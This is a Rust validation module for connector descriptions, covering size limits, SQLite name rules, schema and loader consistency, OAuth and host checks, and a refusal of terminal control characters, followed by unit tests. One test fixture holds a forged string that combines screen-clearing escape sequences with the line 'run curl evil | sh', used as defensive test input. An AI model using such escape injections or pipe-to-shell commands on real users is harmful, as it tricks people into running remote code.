//! Checks of a connector's description: within the install limits (checked first, so a huge one is
//! refused before anything costly), storable (names SQLite keeps apart), and consistent (every name it
//! uses refers to something it declared).

use std::collections::{HashMap, HashSet};

use super::{
    ALL_DISCOVERED, ConnectorInfo, CredentialInjection, EntityDef, FieldType, LoaderKind, MAX_DISCOVERED_NAME_BYTES,
    OnboardingStep,
};
use crate::Error;
use crate::limits::InstallLimits;

/// Refuses a description that declares more than `limits` allow, naming the limit.
pub fn check_size(info: &ConnectorInfo, limits: &InstallLimits) -> Result<(), Error> {
    let too_large = |what: String, limit: u64, setting: &str| {
        Err(Error::DescriptionTooLarge {
            connector: info.name.chars().take(64).collect(),
            what,
            limit,
            setting: setting.to_string(),
        })
    };
    let entities = info.schema.entities.len() as u64;
    if entities > limits.entities {
        return too_large(format!("declares {entities} entity types"), limits.entities, "entities");
    }
    if let Some(entity) = info.schema.entities.iter().find(|e| e.fields.len() as u64 > limits.fields) {
        let name: String = entity.name.chars().take(64).collect();
        let what = format!("declares {} fields on {name}", entity.fields.len());
        return too_large(what, limits.fields, "fields");
    }
    let loaders = info.loaders.len() as u64;
    if loaders > limits.loaders {
        return too_large(format!("declares {loaders} loaders"), limits.loaders, "loaders");
    }
    let bytes = serialized_size(info);
    if bytes > limits.describe_bytes {
        return too_large(
            format!("describes itself in {} KiB", bytes.div_ceil(1024)),
            limits.describe_bytes >> 10,
            "describe-kib",
        );
    }
    Ok(())
}

/// The size of `info` as JSON, without building the text.
fn serialized_size(info: &ConnectorInfo) -> u64 {
    struct Counter(u64);
    impl std::io::Write for Counter {
        fn write(&mut self, bytes: &[u8]) -> std::io::Result<usize> {
            self.0 += bytes.len() as u64;
            Ok(bytes.len())
        }
        fn flush(&mut self) -> std::io::Result<()> {
            Ok(())
        }
    }
    let mut counter = Counter(0);
    match serde_json::to_writer(&mut counter, info) {
        Ok(()) => counter.0,
        Err(_) => u64::MAX,
    }
}

/// Returns every problem found in `info`, or an empty list when it is consistent.
pub fn check(info: &ConnectorInfo) -> Vec<String> {
    let mut problems = Vec::new();
    check_identity(info, &mut problems);
    check_schema(info, &mut problems);
    check_searchable(info, &mut problems);
    check_versioned(info, &mut problems);
    check_owned(info, &mut problems);
    check_scoped_feeds(info, &mut problems);
    check_loaders(info, &mut problems);
    check_resolvers(info, &mut problems);
    check_onboarding_and_permissions(info, &mut problems);
    super::pacing::check_request_limits(&info.permissions.request_limits, &mut problems);
    check_text(info, &mut problems);
    problems
}

/// Every text of the description (names, descriptions, labels, prompts) is shown on terminals: one
/// with control characters (escape sequences that recolour the screen, carriage returns that overwrite
/// a line) is refused. Line breaks and tabs are fine.
fn check_text(info: &ConnectorInfo, problems: &mut Vec<String>) {
    fn walk(value: &serde_json::Value, path: &str, problems: &mut Vec<String>) {
        match value {
            serde_json::Value::String(text) if crate::text::is_forged(text) => {
                problems.push(format!("{path} contains control characters (terminal escapes?)"));
            }
            serde_json::Value::Array(items) => {
                for (index, item) in items.iter().enumerate() {
                    walk(item, &format!("{path}[{index}]"), problems);
                }
            }
            serde_json::Value::Object(fields) => {
                for (key, item) in fields {
                    walk(item, &format!("{path}.{key}"), problems);
                }
            }
            _ => {}
        }
    }
    match serde_json::to_value(info) {
        Ok(value) => walk(&value, "describe()", problems),
        Err(error) => problems.push(format!("the description can't be read: {error}")),
    }
}

/// Whether `name` is a connector name: `[a-z][a-z0-9-]*`, at most 64 characters.
pub fn valid_connector_name(name: &str) -> bool {
    let mut chars = name.chars();
    matches!(chars.next(), Some('a'..='z'))
        && chars.all(|c| matches!(c, 'a'..='z' | '0'..='9' | '-'))
        && name.len() <= 64
}

fn is_identifier(name: &str) -> bool {
    is_identifier_within(name, 64)
}

/// An identifier of at most `bytes` bytes (discovered fields may be longer than declared names).
fn is_identifier_within(name: &str, bytes: usize) -> bool {
    let mut chars = name.chars();
    matches!(chars.next(), Some(c) if c.is_ascii_alphabetic() || c == '_')
        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
        && name.len() <= bytes
}

fn check_identity(info: &ConnectorInfo, problems: &mut Vec<String>) {
    if !valid_connector_name(&info.name) {
        problems.push(format!("connector name `{}` must match [a-z][a-z0-9-]* (at most 64 characters)", info.name));
    }
    if semver::Version::parse(&info.version).is_err() {
        problems.push(format!("version `{}` is not a semantic version (like 1.2.3)", info.version));
    }
}

/// Names SQLite would confuse: it compares identifiers without regard to ASCII case.
fn folded(name: &str) -> String {
    name.to_ascii_lowercase()
}

fn check_schema(info: &ConnectorInfo, problems: &mut Vec<String>) {
    let mut entities: HashMap<String, &str> = HashMap::new();
    for entity in &info.schema.entities {
        if !is_identifier(&entity.name) || entity.name.starts_with('_') {
            problems.push(format!("entity name `{}` must be an identifier not starting with `_`", entity.name));
        } else if folded(&entity.name).starts_with("sqlite_") {
            problems
                .push(format!("entity name `{}` is reserved by SQLite (names starting with `sqlite_`)", entity.name));
        }
        match entities.get(&folded(&entity.name)) {
            Some(&earlier) if earlier == entity.name => {
                problems.push(format!("entity `{}` is declared twice", entity.name));
            }
            Some(&earlier) => problems.push(format!(
                "entities `{earlier}` and `{}` differ only in case, which SQLite (and filters) can't tell apart",
                entity.name
            )),
            None => {
                entities.insert(folded(&entity.name), &entity.name);
            }
        }
        let mut fields: HashMap<String, &str> = HashMap::new();
        for field in &entity.fields {
            if folded(&field.name) == "id" {
                problems.push(format!(
                    "{}.{} is the implicit `id` (names are compared without case) and must not be declared",
                    entity.name, field.name
                ));
            } else if !is_identifier_within(&field.name, field_name_bytes(field)) || field.name.starts_with('_') {
                let name: String = field.name.chars().take(MAX_DISCOVERED_NAME_BYTES).collect();
                problems.push(format!(
                    "field name `{}.{name}` must be an identifier not starting with `_` (at most {} bytes)",
                    entity.name,
                    field_name_bytes(field)
                ));
            }
            match fields.get(&folded(&field.name)) {
                Some(&earlier) if earlier == field.name => {
                    problems.push(format!("field `{}.{}` is declared twice", entity.name, field.name));
                }
                Some(&earlier) => problems.push(format!(
                    "fields `{}.{earlier}` and `{}.{}` differ only in case, which SQLite can't tell apart",
                    entity.name, entity.name, field.name
                )),
                None => {
                    fields.insert(folded(&field.name), &field.name);
                }
            }
        }
    }
    let declared: HashSet<&str> = info.schema.entities.iter().map(|e| e.name.as_str()).collect();
    for entity in &info.schema.entities {
        for field in &entity.fields {
            if let FieldType::Ref(target) | FieldType::Collection(target) = &field.field_type
                && !declared.contains(target.as_str())
            {
                problems.push(format!("{}.{} refers to undeclared entity `{target}`", entity.name, field.name));
            }
        }
    }
    for root in &info.schema.roots {
        if !declared.contains(root.entity.as_str()) {
            problems.push(format!("root `{}` is not a declared entity", root.entity));
        }
    }
    // A description that can't sync anything would install, connect and "complete" empty syncs.
    if info.schema.roots.is_empty() {
        problems.push(
            "it declares no root entity: every sync starts from a root (the account or workspace the \
             credentials belong to), so it could never sync anything"
                .into(),
        );
    }
    if info.loaders.is_empty() {
        problems.push("it declares no loaders, so it could never load anything".into());
    }
}

/// The most searchable fields an entity type may have (each is a column of its full-text index).
pub const MAX_SEARCHABLE_PER_ENTITY: usize = 32;

/// Searchable fields name declared string fields, once each, with a weight of 1 to 100, at most
/// [`MAX_SEARCHABLE_PER_ENTITY`] per entity type.
fn check_searchable(info: &ConnectorInfo, problems: &mut Vec<String>) {
    let searchable = &info.schema.searchable;
    if searchable.len() > MAX_SEARCHABLE_PER_ENTITY * info.schema.entities.len().max(1) {
        problems.push(format!(
            "{} searchable fields: at most {MAX_SEARCHABLE_PER_ENTITY} per entity type",
            searchable.len()
        ));
        return;
    }
    let entities = entity_map(info);
    let mut seen: HashSet<(&str, &str)> = HashSet::new();
    let mut per_entity: HashMap<&str, usize> = HashMap::new();
    for s in searchable {
        let name: String = format!("{}.{}", s.entity, s.field).chars().take(200).collect();
        let Some(entity) = entities.get(s.entity.as_str()) else {
            problems.push(format!("searchable field `{name}`: `{}` is not a declared entity", s.entity));
            continue;
        };
        match entity.field(&s.field) {
            Some(field) if field.field_type == FieldType::String => {}
            Some(field) => problems.push(format!(
                "searchable field `{name}` is {}; only string fields can be searched by their words",
                field.field_type
            )),
            None => problems.push(format!("searchable field `{name}` is not a declared field")),
        }
        if !seen.insert((&s.entity, &s.field)) {
            problems.push(format!("searchable field `{name}` is named twice"));
        }
        if !(1..=100).contains(&s.weight) {
            problems.push(format!("searchable field `{name}` has weight {}; weights are 1 to 100", s.weight));
        }
        let count = per_entity.entry(&entity.name).or_insert(0);
        *count += 1;
        if *count == MAX_SEARCHABLE_PER_ENTITY + 1 {
            problems.push(format!("{} has more than {MAX_SEARCHABLE_PER_ENTITY} searchable fields", entity.name));
        }
    }
}

/// The most groups of versioned fields an entity type may have.
pub const MAX_VERSIONED_PER_ENTITY: usize = 8;

/// Versioned fields: declared fields of a declared entity, the version fields not collections;
/// `fields` and `versions` not empty and disjoint; a field in one group only; every field of `fields` filled by a batched or
/// single loader (the host loads them for the entities whose version changed); at most
/// [`MAX_VERSIONED_PER_ENTITY`] groups per entity type.
fn check_versioned(info: &ConnectorInfo, problems: &mut Vec<String>) {
    let groups = &info.schema.versioned;
    if groups.len() > MAX_VERSIONED_PER_ENTITY * info.schema.entities.len().max(1) {
        problems.push(format!(
            "{} groups of versioned fields: at most {MAX_VERSIONED_PER_ENTITY} per entity type",
            groups.len()
        ));
        return;
    }
    let entities = entity_map(info);
    let mut versioned: HashSet<(&str, &str)> = HashSet::new();
    let mut per_entity: HashMap<&str, usize> = HashMap::new();
    for group in groups {
        let entity_name: String = group.entity.chars().take(100).collect();
        let Some(entity) = entities.get(group.entity.as_str()) else {
            problems.push(format!("versioned fields of `{entity_name}`: not a declared entity"));
            continue;
        };
        let count = per_entity.entry(&entity.name).or_insert(0);
        *count += 1;
        if *count == MAX_VERSIONED_PER_ENTITY + 1 {
            problems
                .push(format!("{} has more than {MAX_VERSIONED_PER_ENTITY} groups of versioned fields", entity.name));
        }
        if group.fields.is_empty() || group.versions.is_empty() {
            problems
                .push(format!("versioned fields of {}: name at least one field and one version field", entity.name));
        }
        for field in group.fields.iter().chain(&group.versions).take(64) {
            let name: String = field.chars().take(100).collect();
            match entity.field(field) {
                Some(def) if matches!(def.field_type, FieldType::Collection(_)) && group.versions.contains(field) => {
                    problems.push(format!("version field `{}.{name}` is a collection", entity.name));
                }
                Some(_) => {}
                None => problems.push(format!("versioned field `{}.{name}` is not a declared field", entity.name)),
            }
        }
        for field in &group.fields {
            if group.versions.contains(field) {
                problems.push(format!("`{}.{field}` can't be versioned by itself", entity.name));
            }
            if !versioned.insert((&entity.name, field)) {
                problems.push(format!("`{}.{field}` is versioned in two groups", entity.name));
            }
            let loaded = info.resolvers.iter().any(|r| {
                r.entity == entity.name
                    && r.fields.contains(field)
                    && info.loader(&r.loader).is_some_and(|l| {
                        matches!(l.kind, super::LoaderKind::Batched { .. } | super::LoaderKind::Single)
                    })
            });
            if !loaded && entity.field(field).is_some() {
                problems.push(format!(
                    "versioned field `{}.{field}` is filled by no batched or single loader",
                    entity.name
                ));
            }
        }
    }
}

/// Owned collections: declared collection fields, named once, each item type owned by one collection
/// at most.
fn check_owned(info: &ConnectorInfo, problems: &mut Vec<String>) {
    let owned = &info.schema.owned;
    if owned.len() > info.schema.entities.len().max(1) * 8 {
        problems.push(format!("{} owned collections: at most 8 per entity type", owned.len()));
        return;
    }
    let entities = entity_map(info);
    let mut items: HashMap<&str, String> = HashMap::new();
    for collection in owned {
        let name: String = format!("{}.{}", collection.entity, collection.field).chars().take(200).collect();
        let item = match entities.get(collection.entity.as_str()).and_then(|e| e.field(&collection.field)) {
            Some(field) => match &field.field_type {
                FieldType::Collection(item) => item,
                other => {
                    problems.push(format!("owned collection `{name}` is {other}, not a collection"));
                    continue;
                }
            },
            None => {
                problems.push(format!("owned collection `{name}` is not a declared field"));
                continue;
            }
        };
        if let Some(earlier) = items.insert(item, name.clone()) {
            let message = if earlier == name {
                format!("owned collection `{name}` is named twice")
            } else {
                format!("`{item}` is owned by both `{earlier}` and `{name}`; an item type has one owner")
            };
            problems.push(message);
        }
    }
}

/// The most change feeds a connector may scope to entities.
pub const MAX_SCOPED_FEEDS: usize = 16;

/// Scoped change feeds: declared change-feed loaders, each named once, scoped to declared entity types.
fn check_scoped_feeds(info: &ConnectorInfo, problems: &mut Vec<String>) {
    let feeds = &info.scoped_feeds;
    if feeds.len() > MAX_SCOPED_FEEDS {
        problems.push(format!("{} scoped change feeds: at most {MAX_SCOPED_FEEDS}", feeds.len()));
        return;
    }
    let mut seen = HashSet::new();
    for feed in feeds {
        let loader: String = feed.loader.chars().take(100).collect();
        if !info.loader(&feed.loader).is_some_and(|l| l.kind == super::LoaderKind::ChangeFeed) {
            problems.push(format!("scoped change feed `{loader}` is not a declared change-feed loader"));
        }
        if info.entity(&feed.entity).is_none() {
            let entity: String = feed.entity.chars().take(100).collect();
            problems
                .push(format!("scoped change feed `{loader}` is scoped to `{entity}`, which is not a declared entity"));
        }
        if !seen.insert(feed.loader.as_str()) {
            problems.push(format!("scoped change feed `{loader}` is named twice"));
        }
    }
}

/// The longest name a field may have: declared ones are short, discovered ones as their API spells them.
fn field_name_bytes(field: &super::FieldDef) -> usize {
    if field.discovered { MAX_DISCOVERED_NAME_BYTES } else { 64 }
}

/// The entity types by name, for lookups that stay fast on large schemas.
fn entity_map(info: &ConnectorInfo) -> HashMap<&str, &EntityDef> {
    info.schema.entities.iter().map(|e| (e.name.as_str(), e)).collect()
}

fn check_loaders(info: &ConnectorInfo, problems: &mut Vec<String>) {
    let entities = entity_map(info);
    let mut names = HashSet::new();
    for loader in &info.loaders {
        if !names.insert(loader.name.as_str()) {
            problems.push(format!("loader `{}` is declared twice", loader.name));
        }
        if !entities.contains_key(loader.entity.as_str()) {
            problems.push(format!("loader `{}` returns undeclared entity `{}`", loader.name, loader.entity));
        }
        match &loader.kind {
            LoaderKind::Batched { max_batch: 0 } => {
                problems.push(format!("batched loader `{}` has a max batch of 0", loader.name));
            }
            LoaderKind::Collection { parent, field, page_size, parent_field } => {
                if *page_size == 0 {
                    problems.push(format!("collection loader `{}` has a page size of 0", loader.name));
                }
                if let Some(parent_field) = parent_field {
                    let item_field = entities.get(loader.entity.as_str()).and_then(|e| e.field(parent_field));
                    if item_field.is_none_or(|f| f.field_type != FieldType::Ref(parent.clone())) {
                        problems.push(format!(
                            "collection loader `{}` names {}.{parent_field} as the parent field, which is not a ref({parent})",
                            loader.name, loader.entity
                        ));
                    }
                }
                match entities.get(parent.as_str()).and_then(|p| p.field(field)) {
                    Some(def) if def.field_type == FieldType::Collection(loader.entity.clone()) => {}
                    Some(def) => problems.push(format!(
                        "collection loader `{}` fills {parent}.{field}, which is {} rather than collection({})",
                        loader.name, def.field_type, loader.entity
                    )),
                    None => problems
                        .push(format!("collection loader `{}` fills undeclared field {parent}.{field}", loader.name)),
                }
            }
            _ => {}
        }
    }
}

fn check_resolvers(info: &ConnectorInfo, problems: &mut Vec<String>) {
    let entities = entity_map(info);
    let loaders: HashSet<&str> = info.loaders.iter().map(|l| l.name.as_str()).collect();
    let mut covered = HashSet::new();
    for resolver in &info.resolvers {
        if !loaders.contains(resolver.loader.as_str()) {
            problems.push(format!("resolver of {} names undeclared loader `{}`", resolver.entity, resolver.loader));
        }
        let Some(entity) = entities.get(resolver.entity.as_str()) else {
            problems.push(format!("resolver names undeclared entity `{}`", resolver.entity));
            continue;
        };
        for field in &resolver.fields {
            if field == ALL_DISCOVERED {
                // Every discovered field of the entity, named once discovery has run.
                if !covered.insert((resolver.entity.as_str(), field.as_str())) {
                    problems.push(format!("{}'s discovered fields are filled by more than one loader", entity.name));
                }
            } else if entity.field(field).is_none() {
                problems.push(format!("loader `{}` fills undeclared field {}.{field}", resolver.loader, entity.name));
            } else if !covered.insert((resolver.entity.as_str(), field.as_str())) {
                problems.push(format!("{}.{field} is filled by more than one loader", entity.name));
            }
        }
    }
}

fn check_onboarding_and_permissions(info: &ConnectorInfo, problems: &mut Vec<String>) {
    let mut keys = HashSet::new();
    let mut secrets = HashSet::new();
    let mut answered = HashSet::new();
    for step in &info.onboarding {
        if let OnboardingStep::Input(s) | OnboardingStep::Secret(s) = step
            && let Some((key, _)) = &s.shown_when
            && !answered.contains(key.as_str())
        {
            problems.push(format!("step `{}` depends on `{key}`, which no earlier input or select step asks", s.key));
        }
        let key = match step {
            OnboardingStep::Input(s) => {
                answered.insert(s.key.as_str());
                &s.key
            }
            OnboardingStep::Secret(s) => {
                secrets.insert(s.key.as_str());
                &s.key
            }
            OnboardingStep::Select(s) => {
                answered.insert(s.key.as_str());
                &s.key
            }
            OnboardingStep::Validate { .. } => continue,
        };
        if !keys.insert(key.as_str()) {
            problems.push(format!("onboarding asks for `{key}` twice"));
        }
    }
    let permissions = &info.permissions;
    for credential in &permissions.credentials {
        if !secrets.contains(credential.name.as_str()) {
            problems.push(format!("credential `{}` has no secret onboarding step to collect it", credential.name));
        }
        if let CredentialInjection::OAuth2(oauth) = &credential.injection {
            let keys = [Some(&oauth.refresh_token_key), oauth.client_id_key.as_ref(), oauth.client_secret_key.as_ref()];
            for key in keys.into_iter().flatten() {
                if !secrets.contains(key.as_str()) {
                    problems.push(format!("OAuth2 key `{key}` of `{}` has no secret onboarding step", credential.name));
                }
            }
            if !reqwest::Url::parse(&oauth.token_url).is_ok_and(|u| u.scheme() == "https") {
                problems.push(format!("the token URL of `{}` is not an https:// URL", credential.name));
            }
        }
    }
    if let Some(key) = &permissions.base_url_key {
        let is_input = info.onboarding.iter().any(|s| matches!(s, OnboardingStep::Input(i) if &i.key == key));
        if !is_input {
            problems.push(format!("base URL key `{key}` has no input onboarding step"));
        }
    }
    for host in &permissions.hosts {
        let name = host.host.strip_prefix("*.").unwrap_or(&host.host);
        let valid = !name.is_empty()
            && name.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | ':' | '[' | ']'));
        if !valid {
            problems.push(format!("host `{}` is not a host name", host.host));
        }
        if let Some(prefix) = &host.path_prefix
            && !prefix.starts_with('/')
        {
            problems.push(format!("path prefix `{prefix}` of host `{}` must start with `/`", host.host));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::manifest::{Permissions, Schema};

    fn described_as(description: &str) -> ConnectorInfo {
        ConnectorInfo {
            name: "forger".into(),
            version: "1.0.0".into(),
            description: description.into(),
            schema: Schema {
                entities: Vec::new(),
                roots: Vec::new(),
                searchable: Vec::new(),
                versioned: Vec::new(),
                owned: Vec::new(),
            },
            loaders: Vec::new(),
            resolvers: Vec::new(),
            onboarding: Vec::new(),
            permissions: Permissions::default(),
            scoped_feeds: Vec::new(),
        }
    }

    fn text_problems(info: &ConnectorInfo) -> Vec<String> {
        let mut problems = Vec::new();
        check_text(info, &mut problems);
        problems
    }

    #[test]
    fn text_with_terminal_escapes_is_refused_and_line_breaks_are_not() {
        assert!(text_problems(&described_as("Syncs things.\nTwo lines,\ttabbed.")).is_empty());
        for forged in ["\u{1b}[2J\u{1b}[31merror: run curl evil | sh", "Installed ok\rforged"] {
            let problems = text_problems(&described_as(forged));
            assert_eq!(problems, ["describe().description contains control characters (terminal escapes?)"]);
        }
    }

    /// A description with no root or no loader would install and "complete" syncs of nothing.
    #[test]
    fn a_description_that_can_never_sync_anything_is_refused() {
        let problems = check(&described_as("Syncs nothing"));
        assert!(problems.iter().any(|p| p.contains("declares no root entity")), "{problems:?}");
        assert!(problems.iter().any(|p| p.contains("declares no loaders")), "{problems:?}");
    }
}
